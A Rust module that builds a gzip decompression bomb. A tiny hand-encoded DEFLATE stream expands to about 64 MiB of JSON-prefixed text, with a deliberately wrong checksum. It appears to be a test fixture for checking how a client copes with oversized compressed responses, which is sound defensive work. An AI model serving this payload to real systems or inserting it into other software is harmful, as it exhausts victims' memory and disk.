//! A small answer that unpacks to a large one.

use std::sync::OnceLock;

/// What it unpacks to, in bytes, or a little more.
pub(crate) const UNPACKED: usize = 64 << 20;

/// The longest piece that one symbol of DEFLATE can repeat (RFC 1951, section 3.2.5).
const REPEATED: usize = 258;

/// How the unpacked text begins: JSON, so that who unpacks it reads on.
const START: &[u8] = b"{\"Plaintext\":\"A";

/// The file of gzip (RFC 1952). Its checksum is wrong: who looks at it has unpacked the whole already.
pub(crate) fn bomb() -> &'static [u8] {
    static BOMB: OnceLock<Vec<u8>> = OnceLock::new();
    BOMB.get_or_init(|| {
        let mut file = Bits { bytes: b"\x1f\x8b\x08\0\0\0\0\0\0\xff".to_vec(), used: 8 };
        // One block, the last, with the fixed codes; its type is written from its low bit.
        [true, true, false].into_iter().for_each(|bit| file.push(bit));
        START.iter().for_each(|byte| file.push_code(0x30 + u32::from(*byte), 8));
        for _ in 0..UNPACKED.div_ceil(REPEATED) {
            file.push_code(0b1100_0101, 8);
            // From one byte back.
            file.push_code(0, 5);
        }
        file.push_code(0, 7);
        file.bytes.extend([0; 8]);
        file.bytes
    })
}

/// Bytes that are filled from their low bits.
struct Bits {
    bytes: Vec<u8>,
    /// Of the last byte.
    used: u8,
}

impl Bits {
    fn push(&mut self, bit: bool) {
        if self.used == 8 {
            self.bytes.push(0);
            self.used = 0;
        }
        *self.bytes.last_mut().expect("it has a header") |= u8::from(bit) << self.used;
        self.used += 1;
    }

    /// Codes are written from their high bits.
    fn push_code(&mut self, code: u32, length: u32) {
        (0..length).rev().for_each(|at| self.push(code >> at & 1 == 1));
    }
}
